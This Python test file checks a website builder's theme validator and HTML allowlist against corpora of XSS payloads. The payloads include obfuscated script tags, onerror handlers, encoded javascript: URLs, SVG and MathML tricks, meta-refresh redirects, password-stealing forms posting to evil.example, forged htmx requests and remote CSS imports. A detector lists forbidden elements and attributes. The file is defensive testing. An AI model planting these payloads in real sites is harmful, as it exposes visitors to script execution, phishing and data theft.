"""The output allowlist: what an uploaded theme renders is judged, not what its source looks like.

Each payload of the corpus below is (1) reported by the validator with its code — which renders
every template with several sample contexts, so markup shown only on "real" sites or only in the
editor is seen — and (2) harmless when an approved theme renders it anyway (after a validator
miss): the published page and the editor canvas are checked by an independent judge that parses
them as a browser does (tinyhtml5) and looks for anything that could run, send a request, load
from elsewhere or send visitors away.
"""

from __future__ import annotations

import io
import json
import re

import pytest
import tinyhtml5

import components
from app.db import db
from app.editor import tree as T
from app.editor.render import RenderContext, Renderer
from app.models import Site
from app.publishing.compiler import compile_site
from app.publishing.snapshot import snapshot_site
from app.theme_packages import validate_folder, validate_zip
from app.theme_packages.output import audit, sanitize
from app.theme_packages.report import RULES
from app.theming import THEMES_ROOT
from tests.test_theme_store import (
    approved,
    new_site,
    package_files,
    person,
    sample_snapshot,
    theme_folder_with,
    zip_of,
)
from tests.test_theme_validator import make_zip, theme

FORM_ENDPOINT = "https://app.example/f/1"

# A layout whose body carries the payload on line 10 (the validator points at it when it can).
LAYOUT = """<!doctype html>
<html lang="{{ site.locale }}">
<head>
<meta charset="utf-8">
<title>{{ meta.title }}</title>
<style>{{ css }}</style>
{% if jsonld %}<script type="application/ld+json">{{ jsonld }}</script>{% endif %}
</head>
<body><div class="ww-site"><main id="main">{{ content }}
PAYLOAD
</main></div></body>
</html>
"""

# (payload in the layout's body, the report code that names it)
LAYOUT_CORPUS = [
    # The review's shapes: banned markup split by an empty expression.
    ("<scr{{ '' }}ipt>alert(document.cookie)</scr{{ '' }}ipt>", "WW-TPL-SCRIPT"),
    ('<img src="/favicon.svg" o{{ "" }}nerror="alert(1)" alt="">', "WW-TPL-SCRIPT"),
    ('<meta http-equiv="re{{ "" }}fresh" content="0;url=https://evil.example/">',
     "WW-TPL-META"),
    # Shown only where the validator's samples are not (real sites, other languages, pages).
    ('{% if site.name not in ["Sample Café", "미리보기 카페", "Preview Café"] %}'
     '<meta http-equiv="refresh" content="0;url=https://evil.example/">{% endif %}',
     "WW-TPL-META"),
    ('{% if site.locale == "ko" %}<scr{{ "" }}ipt>alert(1)</script>{% endif %}',
     "WW-TPL-SCRIPT"),
    ('{% if not page.is_home %}<base href="https://evil.example/">{% endif %}',
     "WW-TPL-EMBED"),
    ('{% if not settings.show_tagline %}<img src=x onerror="alert(1)">{% endif %}',
     "WW-TPL-SCRIPT"),
    # htmx in every spelling.
    ('<div hx-post="/sites/1/name" hx-vals=\'{"name": "X"}\' hx-trigger="load"></div>',
     "WW-TPL-HTMX"),
    ('<div data-hx-post="/sites/1/name" data-hx-trigger="load"></div>', "WW-TPL-HTMX"),
    ("<div h{{ '' }}x-get=\"/sites/1/name\" hx-trigger=\"load\"></div>", "WW-TPL-HTMX"),
    ('<p hx-on::load="alert(1)">x</p>', "WW-TPL-HTMX"),
    ('<div sse-connect="/sites/1/editor/pages/1/events" sse-swap="op"></div>', "WW-TPL-HTMX"),
    # URLs that run code, however they are written.
    ('<a href="&#106;avascript:alert(1)">x</a>', "WW-TPL-SCRIPT"),
    ('<a href="jav&#x09;ascript:alert(1)">x</a>', "WW-TPL-SCRIPT"),
    ("<a href=\"{{ 'java' }}script:alert(1)\">x</a>", "WW-TPL-SCRIPT"),
    ('<a href="vbscript:msgbox(1)">x</a>', "WW-TPL-SCRIPT"),
    ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
     "WW-TPL-URL"),
    # Other documents inside the page.
    ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', "WW-TPL-EMBED"),
    ('<{{ "ifr" ~ "ame" }} src="https://evil.example/"></iframe>', "WW-TPL-EMBED"),
    ('<object data="https://evil.example/x.swf"></object>', "WW-TPL-EMBED"),
    ('<embed src="https://evil.example/x.swf">', "WW-TPL-EMBED"),
    # SVG and MathML (namespace confusion, references to other documents).
    ("<svg><script>alert(1)</script></svg>", "WW-TPL-SCRIPT"),
    ('<svg><a href="javascript:alert(1)"><text y="20">x</text></a></svg>', "WW-TPL-SCRIPT"),
    ('<svg><use href="https://evil.example/sprite.svg#icon"></use></svg>',
     "WW-TPL-SVG-REFERENCE"),
    ('<svg><rect width="9" height="9" fill="url(https://evil.example/p.svg#g)"/></svg>',
     "WW-TPL-SVG-REFERENCE"),
    ('<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>', "WW-TPL-ELEMENT"),
    ('<svg><foreignObject><iframe src="https://evil.example/"></iframe></foreignObject></svg>',
     "WW-TPL-EMBED"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
     "</table></mtext></math>", "WW-TPL-ELEMENT"),
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
     "WW-TPL-SCRIPT"),
    ('<template><img src=x onerror=alert(1)></template>', "WW-TPL-ELEMENT"),
    # Styles: a theme's own <style>, and style attributes reaching other sites.
    ('<style>@imp{{ "" }}ort url(https://evil.example/x.css);</style>', "WW-TPL-STYLE"),
    ('<style class="x" media="all">@import url(https://evil.example/x.css);</style>',
     "WW-TPL-STYLE"),
    ('<ww-slot data-n=css class="x"></ww-slot><style title="t">{{ css }}</style>',
     "WW-TPL-STYLE"),
    ('<div style="background:u\\72l(https://evil.example/t.png)">x</div>', "WW-TPL-STYLE"),
    ("<div style=\"background-image: image-set('https://evil.example/t.png' 1x)\">x</div>",
     "WW-TPL-STYLE"),
    ('<p style="width: expression(alert(1))">x</p>', "WW-TPL-STYLE"),
    # The head: verification tags (a designer claiming every site), remote files.
    ('<meta name="naver-site-verification" content="abc123">', "WW-TPL-META"),
    ('<meta name="google-site-verification" content="abc123">', "WW-TPL-META"),
    ('<link rel="stylesheet" href="https://evil.example/x.css">', "WW-TPL-REMOTE-RESOURCE"),
    ('<img src="https://evil.example/pixel.gif" alt="">', "WW-TPL-REMOTE-RESOURCE"),
    ('<img src="/x.png" srcset="https://evil.example/a.png 2x" alt="">',
     "WW-TPL-REMOTE-RESOURCE"),
    # Forms post only to WindWalker's endpoint.
    ('<form action="https://evil.example/steal" method="post"><input name="pw"></form>',
     "WW-TPL-FORM-ACTION"),
    ('<button formaction="https://evil.example/">x</button>', "WW-TPL-FORM-ACTION"),
    # Attributes assembled from data.
    ('<div {{ "onclick" }}="alert(1)">x</div>', "WW-TPL-SCRIPT"),
    ('<details open ontoggle="alert(1)"><summary>x</summary></details>', "WW-TPL-SCRIPT"),
]

# (components/heading.html, the report code). The editor draws these on its own origin.
BLOCK_CORPUS = [
    ('{% if editing %}<div hx-post="../../name" hx-vals=\'{"name": "X"}\' '
     'hx-trigger="load"></div>{% endif %}<h2>{{ props.text }}</h2>', "WW-TPL-HTMX"),
    ('<div data-hx-post="../../name" data-hx-trigger="load"></div>', "WW-TPL-HTMX"),
    ('<div id="panel" hx-swap-oob="true">x</div>', "WW-TPL-HTMX"),
    ('<div id="panel">x</div>', "WW-TPL-ID"),
    ('<div data-block-id="b1" data-pick-asset="x">x</div>', "WW-TPL-EDITOR-ATTRIBUTE"),
    ('<button commandfor="drawer" command="show-modal">x</button>', "WW-TPL-EDITOR-ATTRIBUTE"),
    ('<div contenteditable="true" autofocus>x</div>', "WW-TPL-EDITOR-ATTRIBUTE"),
    ('<link rel="stylesheet" href="/x.css">', "WW-TPL-ELEMENT"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "WW-TPL-META"),
    ("<style>.x{background:url(https://evil.example/x.png)}</style>", "WW-TPL-STYLE"),
    ('<form action="https://evil.example/" method="post"><input name="x"></form>',
     "WW-TPL-FORM-ACTION"),
    ("{% if editing %}<scr{{ '' }}ipt>alert(1)</scr{{ '' }}ipt>{% endif %}", "WW-TPL-SCRIPT"),
    ('<img src="/x.png" o{{ "" }}nerror="alert(1)" alt="">', "WW-TPL-SCRIPT"),
    ('<a href="#" class="ed-block" data-inline="text">{{ props.text }}</a>',
     "WW-TPL-EDITOR-ATTRIBUTE"),
]


# An independent judge: what a browser would build from the page, and nothing in it that runs,
# requests, loads from elsewhere or navigates away. -----------------------------------------------

ACTIVE_PREFIXES = ("on", "hx-", "data-hx-", "sse-", "data-sse-", "ws-", "data-ws-")
FORBIDDEN_ELEMENTS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base",
                      "noscript", "template", "portal", "animate", "set", "foreignobject"}


def elements(html: str, fragment: bool):
    parser = tinyhtml5.parser.HTMLParser(namespace_html_elements=True)
    stream = io.StringIO(html)
    root = (parser.parse_fragment(stream, container="div", scripting=True) if fragment
            else parser.parse(stream, scripting=True))
    for element in root.iter():
        if isinstance(element.tag, str):
            yield (element.tag.rsplit("}", 1)[-1].lower(),
                   {k.rsplit("}", 1)[-1].lower(): v for k, v in element.attrib.items()},
                   element.text or "")


EDITOR_IDS = {"panel", "drawer", "drawer-body", "design-panel", "op-sink", "live-sink", "toast",
              "seq", "canvas", "canvas-root", "editor", "alerts", "save-state", "presence"}


def assert_inert(html: str, *, fragment: bool = False,
                 form_actions: tuple[str, ...] = (FORM_ENDPOINT, "#")) -> None:
    assert "<ww-slot" not in html  # every placeholder was put back or dropped
    if html.startswith('<div class="ed-block"'):  # the editor's frame around a block is ours
        html = html[html.index(">") + 1:html.rindex("</div>")]
    for tag, attrs, text in elements(html, fragment):
        where = f"<{tag} {attrs}>"
        assert tag not in FORBIDDEN_ELEMENTS, where
        if tag == "script":
            assert attrs == {"type": "application/ld+json"}, where
            assert text.startswith('{"@context"'), where  # only WindWalker's structured data
        if tag == "style":
            assert not attrs and "@import" not in text and "evil" not in text, where
        if tag == "meta":
            assert "http-equiv" not in attrs, where
            assert "verification" not in attrs.get("name", ""), where
        if tag == "form":
            assert attrs.get("action") in form_actions, where
            assert attrs.get("method", "post") == "post", where
        for name, value in attrs.items():
            assert not name.startswith(ACTIVE_PREFIXES), where
            assert name not in {"srcdoc", "formaction", "form", "contenteditable", "autofocus",
                                "commandfor", "command", "popovertarget"}, where
            plain = re.sub(r"[\x00-\x20]", "", value).lower()
            assert not plain.startswith(("javascript:", "vbscript:", "data:text")), where
            # Other sites only as links a visitor follows (or inert text, e.g. the content of
            # a <meta> whose http-equiv is gone).
            assert "evil.example" not in plain or (tag, name) in (("a", "href"),
                                                                   ("meta", "content")), where
            if name == "style":
                assert "expression" not in plain and "url(" not in plain, where
            if tag == "use" and name == "href":
                assert value.startswith("#"), where
            if name == "class":
                assert "ed-block" not in value.split(), where
            if name == "id" and fragment:
                assert value not in EDITOR_IDS, where


def published_pages(folder: str) -> dict[str, str]:
    output = compile_site(sample_snapshot("haneul", folder), lambda *a: b"")
    return {path: data.decode() for path, data in output.files.items()
            if path.endswith(".html")}


def block_views(folder: str) -> list[tuple[str, bool]]:
    """The heading block (with a form block beside it) as the editor and a published page draw
    it, with the theme's override."""
    tree = T.empty_tree()
    tree["slots"][T.ROOT_SLOT] = [T.make_node("heading", {"text": "어서 오세요"})]
    views = []
    for editing in (True, False):
        ctx = RenderContext(theme_folder=folder, editing=editing, locale="ko",
                            site={"name": "하늘 꽃집", "slug": "haneul", "locale": "ko"},
                            form_action="" if editing else FORM_ENDPOINT)
        views.append((str(Renderer(ctx).render_tree(tree)), editing))
    return views


# The corpus ---------------------------------------------------------------------------------

@pytest.mark.parametrize(("payload", "code"), LAYOUT_CORPUS)
def test_the_validator_names_what_a_layout_renders(payload, code):
    report = validate_zip(make_zip(theme({"layout.html": LAYOUT.replace("PAYLOAD", payload),
                                          "partials/nav.html": None})))
    codes = {e.code for e in report}
    assert code in codes, [(e.code, e.message) for e in report]
    if RULES[code].level == "error":
        assert not report.ok


@pytest.mark.parametrize(("payload", "code"), LAYOUT_CORPUS)
def test_an_approved_layout_renders_the_payload_harmlessly(tmp_path, payload, code):
    folder = theme_folder_with(tmp_path, {"layout.html":
                                          LAYOUT.replace("PAYLOAD", payload).encode()})
    pages = published_pages(folder)
    assert pages
    for html in pages.values():
        assert_inert(html)
        assert 'data-ww-sample' not in html and "<main id=\"main\">" in html


@pytest.mark.parametrize(("payload", "code"), BLOCK_CORPUS)
def test_the_validator_names_what_a_block_override_renders(payload, code):
    report = validate_zip(make_zip(theme({"components/heading.html": payload})))
    assert code in {e.code for e in report}, [(e.code, e.message) for e in report]
    if RULES[code].level == "error":
        assert not report.ok


@pytest.mark.parametrize(("payload", "code"), BLOCK_CORPUS)
def test_an_approved_block_override_renders_the_payload_harmlessly(tmp_path, payload, code):
    folder = theme_folder_with(tmp_path, {"components/heading.html": payload.encode()})
    for html, editing in block_views(folder):
        assert_inert(html, fragment=True, form_actions=("#",) if editing else (FORM_ENDPOINT,))
        if editing:
            assert html.startswith('<div class="ed-block"')  # the editor's frame is ours


def test_a_refresh_shown_only_on_real_sites_never_reaches_a_real_site(tmp_path):
    conditional = ('{% if site.name not in ["Sample Café", "미리보기 카페", "Preview Café"] %}'
                   '<meta http-equiv="refresh" content="0;url=https://evil.example/">'
                   '{% endif %}')
    report = validate_zip(make_zip(theme({"layout.html": LAYOUT.replace("PAYLOAD", conditional),
                                          "partials/nav.html": None})))
    found = [e for e in report if e.code == "WW-TPL-META"]
    assert found and not report.ok
    assert "rendered for" in found[0].message  # seen on a sample with a name of its own
    html = published_pages(theme_folder_with(tmp_path, {"layout.html": LAYOUT.replace(
        "PAYLOAD", conditional).encode()}))["index.html"]
    assert "하늘 꽃집" in html and "http-equiv" not in html


def test_a_clean_layout_and_override_keep_every_element_and_attribute(tmp_path):
    layout = LAYOUT.replace("PAYLOAD", (
        '<nav aria-label="{{ strings.menu }}">{% for item in nav %}<a href="{{ item.url }}"'
        '{% if item.current %} aria-current="page"{% endif %}>{{ item.title }}</a>{% endfor %}'
        '</nav><svg viewBox="0 0 24 24" width="24" height="24" aria-hidden="true">'
        '<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient>'
        '</defs><path d="M0 0h24v24H0z" fill="url(#g)"/><use href="#g"/></svg>'
        '<p class="x" style="color: red; background: url(/assets/x.png)" title="a &amp; b">'
        '<a href="tel:021234567" target="_blank" rel="noopener">전화</a></p>'))
    override = ('<section class="my-heading" aria-labelledby="ww-{{ block.id }}-t">'
                '<h2 id="ww-{{ block.id }}-t" data-inline="text">{{ props.text }}</h2>'
                '<form method="post" action="{{ form_action }}"><label for="ww-{{ block.id }}-n">'
                '이름</label><input id="ww-{{ block.id }}-n" name="name" required>'
                '<button type="submit">보내기</button></form></section>')
    report = validate_zip(make_zip(theme({"layout.html": layout, "partials/nav.html": None,
                                          "components/heading.html": override})))
    assert [(e.code, e.message) for e in report] == []
    folder = theme_folder_with(tmp_path, {"layout.html": layout.encode(),
                                          "components/heading.html": override.encode()})
    html = published_pages(folder)["index.html"]
    assert 'style="color: red; background: url(/assets/x.png)"' in html
    assert '<use href="#g"></use>' in html and 'fill="url(#g)"' in html
    assert '<a href="tel:021234567" target="_blank" rel="noopener">' in html
    assert html.startswith('<!doctype html>\n<html lang="ko">\n<head>\n<meta charset="utf-8">')
    assert '<script type="application/ld+json">{"@context"' in html
    editor_html, _ = block_views(folder)[0]
    assert 'data-inline="text"' in editor_html and '<form method="post" action="#">' in editor_html
    # The same input gives the same bytes (nh3 adds the forced action after the theme's own).
    assert published_pages(folder) == published_pages(folder)


# Placeholders: the platform's parts come back only where they stand as elements ---------------

@pytest.mark.parametrize("layout_body", [
    '<p title="{{ content }}">x</p>',          # inside an attribute: stays a harmless value
    "<p>{{ css }}</p>",                        # the CSS outside a <style>: dropped
    "<textarea>{{ content }}</textarea>",      # inside RCDATA: text
    "<style>{{ content }}</style>",            # the page's HTML inside a <style>: removed
    "<ww-slot data-n=content></ww-slot>",      # forged: only ever puts our own content back
])
def test_placeholders_are_only_ever_replaced_where_they_are_elements(tmp_path, layout_body):
    layout = LAYOUT.replace("{{ content }}", "").replace("<style>{{ css }}</style>", "") \
        .replace("PAYLOAD", layout_body)
    html = published_pages(theme_folder_with(tmp_path, {"layout.html": layout.encode()}))[
        "index.html"]
    assert_inert(html)
    found = list(elements(html, fragment=False))
    assert not [text for tag, _attrs, text in found if tag == "style"]  # no CSS came back
    blocks = [tag for tag, _attrs, _text in found if tag == "section"]  # the page's blocks
    normal = published_pages(theme_folder_with(tmp_path / "normal", {"layout.html": LAYOUT.replace(
        "PAYLOAD", "").encode()}))["index.html"]
    expected = [tag for tag, _attrs, _text in elements(normal, fragment=False)
                if tag == "section"]
    assert blocks == (expected if "ww-slot" in layout_body else [])
    for _tag, attrs, _text in found:
        assert not any("<section" in value for value in attrs.values())


def test_the_sanitisers_serialisation_keeps_the_invariants_the_put_back_relies_on():
    """_restyle and _substitute scan the sanitiser's output for '<style>' and '<ww-slot':
    that is only exact while it escapes '<' in text and attribute values and writes tags
    lower-case (nh3 is pinned; this test guards an upgrade)."""
    out = sanitize('<p title="<style>x</style><ww-slot data-n=css>">a &lt;style&gt; '
                   '<STYLE>b</STYLE><WW-SLOT data-n=content></WW-SLOT></p>', "layout")
    assert out == ('<p title="&lt;style&gt;x&lt;/style&gt;&lt;ww-slot data-n=css&gt;">a '
                   '&lt;style&gt; <style>b</style><ww-slot data-n="content"></ww-slot></p>')


def test_publishing_through_the_allowlist_stays_deterministic(tmp_path):
    folder = theme_folder_with(tmp_path, {"layout.html": LAYOUT.replace(
        "PAYLOAD", '<div hx-post="/x">{{ site.name }}</div>').encode()})
    assert published_pages(folder) == published_pages(folder)


# What the platform itself draws passes cleanly -------------------------------------------------

@pytest.mark.parametrize("slug", ["default", "shop", "clinic", "portfolio"])
def test_bundled_themes_pass_the_allowlist_with_nothing_removed(slug):
    report = validate_folder(THEMES_ROOT / slug)
    assert [e.to_dict() for e in report] == []


@pytest.mark.parametrize("type_name", sorted(components.registry()))
def test_every_blocks_own_view_would_pass_as_an_override(type_name):
    """A designer starts an override from the block's own template: it passes the allowlist
    (the video block's player, a YouTube <iframe>, is the one thing only WindWalker draws)."""
    component = components.get(type_name)
    node = T.make_node(type_name)
    renderer = Renderer(RenderContext(editing=False, form_action=FORM_ENDPOINT,
                                      site={"name": "하늘 꽃집", "slug": "haneul", "locale": "ko"}))
    html = str(renderer.render_node(node))
    findings = audit(html, "block", form_action=FORM_ENDPOINT)
    if type_name == "video":
        assert {f.code for f in findings} <= {"WW-TPL-EMBED"}
    else:
        assert findings == [], [(f.code, f.message) for f in findings]
    assert component.type == type_name


def test_the_renderers_pictures_pass_the_allowlist():
    asset = "a" * 64
    meta = {asset: {"width": 1600, "height": 900, "widths": [480, 960, 1600],
                    "fallback": "jpg", "alt": ""}}
    for editing in (False, True):
        renderer = Renderer(RenderContext(assets=meta, editing=editing,
                                          image_url=lambda h, w=None, ext="webp":
                                          f"/assets/{h[:20]}-{w}.{ext}"))
        for html in (str(renderer.image({"asset": asset, "alt": "빵"}, css_class="x")),
                     str(renderer.image(None))):
            assert audit(html, "block") == [], html


# theme.json strings stay text everywhere ------------------------------------------------------

MANIFEST_PAYLOAD = '"><img src=x onerror=alert(1)><script>alert(2)</script>'
LABEL = {"ko": MANIFEST_PAYLOAD, "en": MANIFEST_PAYLOAD, "ja": MANIFEST_PAYLOAD}


def hostile_manifest_files(default_text: str, layout_change: tuple[bytes, bytes] | None = None):
    files = package_files(slug="haneul-xss", version="1.0.0", name=MANIFEST_PAYLOAD,
                          description=MANIFEST_PAYLOAD, author=MANIFEST_PAYLOAD)
    manifest = json.loads(files["theme.json"])
    manifest["settings"] = [
        {"key": "announcement", "type": "text", "label": LABEL, "help": LABEL,
         "default": default_text},
        {"key": "mood", "type": "select", "label": LABEL, "default": "a",
         "options": [{"value": "a", "label": LABEL}, {"value": "b", "label": LABEL}]},
    ]
    files["theme.json"] = json.dumps(manifest, ensure_ascii=False).encode()
    if layout_change:
        files["layout.html"] = files["layout.html"].replace(*layout_change)
    return files


def test_a_setting_printed_into_a_tag_cannot_smuggle_attributes():
    """A text setting's value (the default here; an owner's text on a real site) printed
    unquoted inside a tag becomes attributes: the validator names them and they never stay."""
    files = hostile_manifest_files(
        "hx-post=/sites/1/name hx-trigger=load onmouseover=alert(1)",
        (b'<div class="ww-site', b'<div {{ settings.announcement }} class="ww-site'))
    report = validate_zip(zip_of(files))
    assert {"WW-TPL-HTMX", "WW-TPL-SCRIPT"} <= {e.code for e in report} and not report.ok


def test_manifest_strings_with_markup_are_escaped_in_the_gallery_review_and_design_panel(app):
    designer = person(app, "designer@example.com", "designer")
    admin = person(app, "admin@example.com", "admin")
    owner = person(app, "owner@example.com")
    files = hostile_manifest_files(MANIFEST_PAYLOAD)
    version_id = approved(app, designer, admin, zip_of(files))
    site_id = new_site(app, owner)
    responses = [designer.get(f"/designer/versions/{version_id}"), designer.get("/designer/"),
                 admin.get(f"/designer/review/{version_id}"), admin.get("/designer/review"),
                 owner.get(f"/sites/{site_id}/theme")]
    applied = owner.post(f"/sites/{site_id}/theme", {"theme": "haneul-xss"})
    assert applied.status_code == 303, applied.get_data(as_text=True)[:2000]
    responses += [owner.get(f"/sites/{site_id}/theme"),
                  owner.get(f"/sites/{site_id}/design", htmx=True)]
    for response in responses:
        assert response.status_code == 200
        body = response.get_data(as_text=True)
        assert "<img src=x onerror" not in body and "<script>alert(2)" not in body
    assert "&lt;img src=x onerror=alert(1)&gt;" in responses[-1].get_data(as_text=True)
    with app.app_context():
        snap = snapshot_site(db.session.get(Site, site_id), base_url="https://h.example")
    html = compile_site(snap, lambda *a: b"").files["index.html"].decode()
    assert_inert(html)
    assert "<img src=x" not in html and "&lt;img src=x onerror=alert(1)&gt;" in html
